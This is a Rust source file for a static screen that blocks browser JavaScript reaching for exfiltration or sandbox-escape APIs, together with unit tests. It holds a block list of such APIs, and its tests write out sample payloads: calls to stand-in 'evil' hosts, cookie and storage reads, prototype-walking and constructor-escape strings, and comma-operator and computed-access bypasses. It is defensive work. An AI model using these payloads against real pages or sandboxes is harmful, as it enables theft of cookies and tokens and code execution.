//! Layer 1 of the secure-eval defense: a static screen over the token
//! stream that rejects code reaching for exfiltration or escape
//! primitives before anything is sent to the browser.
//!
//! The screen is deliberately conservative about what it blocks and
//! permissive about what it cannot parse: a source the lexer gives up
//! on is passed through, because the page will refuse to parse it too.

use super::lexer::{Token, lex};

/// Globals whose qualification does not change what is being accessed.
const GLOBAL_ALIASES: [&str; 7] = [
    "window",
    "globalThis",
    "self",
    "top",
    "parent",
    "frames",
    "this",
];

/// APIs blocked in call or constructor position, and always when
/// reached through a global alias.
const BLOCKED_APIS: [&str; 11] = [
    "fetch",
    "eval",
    "atob",
    "btoa",
    "Function",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "Worker",
    "SharedWorker",
    "RTCPeerConnection",
];

/// One segment of a member-access chain.
#[derive(Debug, Clone, PartialEq)]
enum Segment {
    Named(String),
    /// `base[expr]` with a non-literal index.
    Computed,
}

/// Screen a source string.
///
/// # Errors
///
/// The human-readable reason the source was rejected.
pub fn screen_source(source: &str) -> Result<(), String> {
    let Ok(tokens) = lex(source) else {
        // Unparsable here means unparsable in the page; nothing
        // dangerous can execute.
        return Ok(());
    };

    // String-literal rules apply everywhere, including template text.
    for token in &tokens {
        let text = match token {
            Token::Str(s) | Token::Template(s) => s,
            _ => continue,
        };
        let head: String = text.trim_start().chars().take(11).collect();
        if head.eq_ignore_ascii_case("javascript:") {
            return Err("navigation-hijack javascript: URL".to_owned());
        }
    }

    // Prototype walking is blocked in every syntactic position,
    // including after parenthesized heads like `(5).constructor`.
    for (j, token) in tokens.iter().enumerate() {
        match token {
            Token::Ident(name) if name == "__proto__" => {
                return Err("prototype access: __proto__".to_owned());
            }
            Token::Ident(name)
                if name == "constructor" && j > 0 && tokens[j - 1] == Token::Punct('.') =>
            {
                return Err("prototype access: .constructor".to_owned());
            }
            Token::Str(name)
                if (name == "__proto__" || name == "constructor")
                    && j > 0
                    && tokens[j - 1] == Token::Punct('[') =>
            {
                return Err(format!("prototype access: [\"{name}\"]"));
            }
            _ => {}
        }
    }

    let mut i = 0;
    while i < tokens.len() {
        let Token::Ident(_) = &tokens[i] else {
            i += 1;
            continue;
        };
        // Only start chains at their head; members were consumed by
        // the chain that contains them.
        if i > 0 && tokens[i - 1] == Token::Punct('.') {
            i += 1;
            continue;
        }

        let preceded_by_new =
            i > 0 && matches!(&tokens[i - 1], Token::Ident(name) if name == "new");
        let (chain, next) = build_chain(&tokens, i);
        let is_call = tokens.get(next) == Some(&Token::Punct('('));
        // `(0, blocked)(...)`: the chain is followed by the closing
        // paren of the comma expression and an immediate call.
        let comma_bypass = tokens.get(next) == Some(&Token::Punct(')'))
            && tokens.get(next + 1) == Some(&Token::Punct('('));

        check_chain(
            &tokens,
            &chain,
            ChainContext {
                is_call,
                comma_bypass,
                preceded_by_new,
                call_paren_index: next,
            },
        )?;

        i = next.max(i + 1);
    }
    Ok(())
}

struct ChainContext {
    is_call: bool,
    comma_bypass: bool,
    preceded_by_new: bool,
    call_paren_index: usize,
}

/// Collect `a.b["c"][expr]` starting at `start` (an identifier).
/// Returns the chain and the index of the first token after it.
fn build_chain(tokens: &[Token], start: usize) -> (Vec<Segment>, usize) {
    let Token::Ident(head) = &tokens[start] else {
        return (Vec::new(), start + 1);
    };
    let mut chain = vec![Segment::Named(head.clone())];
    let mut i = start + 1;
    loop {
        match (tokens.get(i), tokens.get(i + 1)) {
            (Some(Token::Punct('.')), Some(Token::Ident(name))) => {
                chain.push(Segment::Named(name.clone()));
                i += 2;
            }
            (Some(Token::Punct('[')), Some(Token::Str(name)))
                if tokens.get(i + 2) == Some(&Token::Punct(']')) =>
            {
                chain.push(Segment::Named(name.clone()));
                i += 3;
            }
            (Some(Token::Punct('[')), _) => {
                // Skip to the matching bracket.
                let mut depth = 1;
                let mut j = i + 1;
                while j < tokens.len() && depth > 0 {
                    match tokens[j] {
                        Token::Punct('[') => depth += 1,
                        Token::Punct(']') => depth -= 1,
                        _ => {}
                    }
                    j += 1;
                }
                chain.push(Segment::Computed);
                i = j;
            }
            _ => break,
        }
    }
    (chain, i)
}

#[allow(clippy::too_many_lines)]
fn check_chain(tokens: &[Token], chain: &[Segment], ctx: ChainContext) -> Result<(), String> {
    // Adjacent-pair rules that apply at any chain depth.
    for pair in chain.windows(2) {
        let (Segment::Named(a), Segment::Named(b)) = (&pair[0], &pair[1]) else {
            continue;
        };
        match (a.as_str(), b.as_str()) {
            ("location", "assign" | "replace") => {
                return Err(format!("navigation hijack: location.{b}"));
            }
            ("navigator", "sendBeacon") => {
                return Err("blocked API: navigator.sendBeacon".to_owned());
            }
            ("Object", "getOwnPropertyDescriptor" | "getOwnPropertyDescriptors") => {
                return Err(format!("reflection access: Object.{b}"));
            }
            ("String", "fromCharCode" | "raw") => {
                return Err(format!("obfuscation primitive: String.{b}"));
            }
            _ => {}
        }
    }

    // Strip leading global aliases so `window.fetch` and `fetch` share
    // the remaining rules.
    let mut stripped = 0;
    while let Some(Segment::Named(name)) = chain.get(stripped) {
        if GLOBAL_ALIASES.contains(&name.as_str()) {
            stripped += 1;
        } else {
            break;
        }
    }
    let global_qualified = stripped > 0;
    let rest = &chain[stripped..];

    let Some(first) = rest.first() else {
        // A bare global alias (e.g. reading `window`) is harmless.
        return Ok(());
    };

    // Computed access on a global object defeats name-based screening.
    if global_qualified && *first == Segment::Computed {
        return Err("computed access on a global object".to_owned());
    }

    let Segment::Named(head) = first else {
        return Ok(());
    };
    let head = head.as_str();

    if BLOCKED_APIS.contains(&head) {
        if global_qualified {
            // Even a bare reference through a global is a binding of a
            // blocked API (`const x = window.fetch`).
            return Err(format!("blocked API reference: {head}"));
        }
        if ctx.is_call || ctx.preceded_by_new || ctx.comma_bypass {
            return Err(format!("blocked API call: {head}"));
        }
    }

    if head == "Image" && ctx.preceded_by_new {
        return Err("blocked constructor: Image".to_owned());
    }
    if head == "Image" && global_qualified {
        return Err("blocked API reference: Image".to_owned());
    }

    if (head == "localStorage" || head == "sessionStorage") && rest.len() >= 2 {
        return Err(format!("storage access: {head}"));
    }

    if head == "Reflect" && rest.len() >= 2 {
        return Err("reflection access: Reflect".to_owned());
    }

    if head == "document" {
        if let Some(Segment::Named(second)) = rest.get(1) {
            match second.as_str() {
                "cookie" => return Err("cookie access: document.cookie".to_owned()),
                "write" | "writeln" => {
                    return Err(format!("blocked API call: document.{second}"));
                }
                "defaultView" => {
                    return Err("window escape: document.defaultView".to_owned());
                }
                "createElement" if ctx.is_call => {
                    if let Some(Token::Str(tag)) = tokens.get(ctx.call_paren_index + 1) {
                        let tag = tag.to_lowercase();
                        if tag == "script" || tag == "iframe" {
                            return Err(format!("injection vector: createElement(\"{tag}\")"));
                        }
                    }
                }
                _ => {}
            }
        }
    }

    if (head == "setTimeout" || head == "setInterval")
        && ctx.is_call
        && matches!(
            tokens.get(ctx.call_paren_index + 1),
            Some(Token::Str(_) | Token::Template(_))
        )
    {
        return Err(format!("string-form timer body: {head}"));
    }

    if head == "import" && ctx.is_call {
        return Err("dynamic import".to_owned());
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blocked(source: &str) -> String {
        screen_source(source).expect_err(&format!("expected block: {source}"))
    }

    fn allowed(source: &str) {
        assert!(
            screen_source(source).is_ok(),
            "expected pass: {source} -> {:?}",
            screen_source(source)
        );
    }

    // --- blocked catalog ---

    #[test]
    fn blocks_direct_calls() {
        assert!(blocked("fetch('/api')").contains("fetch"));
        blocked("eval('1+1')");
        blocked("atob('aGk=')");
        blocked("btoa('hi')");
        blocked("new XMLHttpRequest()");
        blocked("new WebSocket('ws://evil')");
        blocked("new EventSource('/events')");
        blocked("new Worker('w.js')");
        blocked("new SharedWorker('w.js')");
        blocked("new RTCPeerConnection()");
        blocked("Function('return 1')()");
    }

    #[test]
    fn blocks_image_constructor_only() {
        blocked("new Image(1, 1)");
        allowed("Imageedit()");
    }

    #[test]
    fn blocks_global_qualified_access() {
        blocked("window.fetch('/x')");
        blocked("globalThis.eval('x')");
        blocked("self.atob('eA==')");
        blocked("top.fetch");
        blocked("parent.fetch");
        blocked("frames.fetch");
        blocked("this.fetch('/x')");
    }

    #[test]
    fn blocks_binding_a_blocked_api() {
        blocked("const grab = window.fetch");
        blocked("var f = globalThis.Function");
    }

    #[test]
    fn blocks_storage_access() {
        blocked("localStorage.getItem('token')");
        blocked("sessionStorage.setItem('a', 'b')");
        blocked("window.localStorage.getItem('token')");
        blocked("localStorage['token']");
    }

    #[test]
    fn blocks_cookie_access() {
        blocked("document.cookie");
        blocked("document.cookie = 'a=b'");
        blocked("document['cookie']");
    }

    #[test]
    fn blocks_document_sinks() {
        blocked("document.write('<b>x</b>')");
        blocked("document.writeln('x')");
        blocked("document.defaultView");
        blocked("document.createElement('script')");
        blocked("document.createElement(\"iframe\")");
    }

    #[test]
    fn allows_benign_create_element() {
        allowed("document.createElement('div')");
    }

    #[test]
    fn blocks_location_mutation() {
        blocked("location.assign('https://evil')");
        blocked("window.location.replace('https://evil')");
        blocked("document.location.assign('x')");
    }

    #[test]
    fn blocks_beacon_and_reflection() {
        blocked("navigator.sendBeacon('/collect', data)");
        blocked("Object.getOwnPropertyDescriptor(window, 'fetch')");
        blocked("Object.getOwnPropertyDescriptors(window)");
        blocked("Reflect.get(window, 'fetch')");
    }

    #[test]
    fn blocks_string_timers() {
        blocked("setTimeout('doEvil()', 10)");
        blocked("setInterval(`tick()`, 10)");
        blocked("window.setTimeout('x()', 0)");
    }

    #[test]
    fn blocks_obfuscation_primitives() {
        blocked("String.fromCharCode(102, 101)");
        blocked("String.raw`fe${'tch'}`");
    }

    #[test]
    fn blocks_computed_global_access() {
        blocked("window['fe' + 'tch']");
        blocked("globalThis[name]()");
        blocked("self[key]");
    }

    #[test]
    fn blocks_prototype_walking() {
        blocked("x.__proto__.polluted = 1");
        blocked("({}).constructor.constructor('alert(1)')()");
        blocked("x['__proto__']");
        blocked("(5).constructor");
        blocked("x['constructor']");
    }

    #[test]
    fn blocks_javascript_urls() {
        blocked("a.href = 'javascript:alert(1)'");
        blocked("a.href = '  JavaScript:alert(1)'");
    }

    #[test]
    fn blocks_dynamic_import() {
        blocked("import('https://evil/mod.js')");
    }

    #[test]
    fn blocks_comma_operator_bypass() {
        blocked("(0, fetch)('/api')");
        blocked("(0, eval)('1+1')");
    }

    #[test]
    fn blocks_inside_template_expressions() {
        blocked("`${window.fetch('/x')}`");
    }

    // --- explicitly allowed forms ---

    #[test]
    fn allows_bare_identifier_without_call() {
        allowed("typeof fetch");
        allowed("const usesFetch = fetch !== undefined");
    }

    #[test]
    fn allows_this_member_access() {
        allowed("this.querySelector('h1')");
    }

    #[test]
    fn allows_window_location_read() {
        allowed("window.location");
        allowed("window.location.href");
        allowed("location.href");
    }

    #[test]
    fn allows_function_timer() {
        allowed("setTimeout(() => tick(), 100)");
        allowed("setTimeout(doWork, 50)");
    }

    #[test]
    fn allows_everyday_dom_code() {
        allowed("document.querySelector('h1').textContent");
        allowed("document.querySelectorAll('.row').length");
        allowed("Array.from(document.links).map(a => a.href)");
        allowed("JSON.stringify({a: 1})");
    }

    #[test]
    fn allows_strings_mentioning_apis() {
        allowed("console.log('fetch is a word')");
        allowed("const label = `eval-like`");
    }

    #[test]
    fn syntax_errors_pass_through() {
        // The page will reject these at parse time; nothing can run.
        allowed("const x = 'unterminated");
        allowed("`broken ${ template");
    }
}
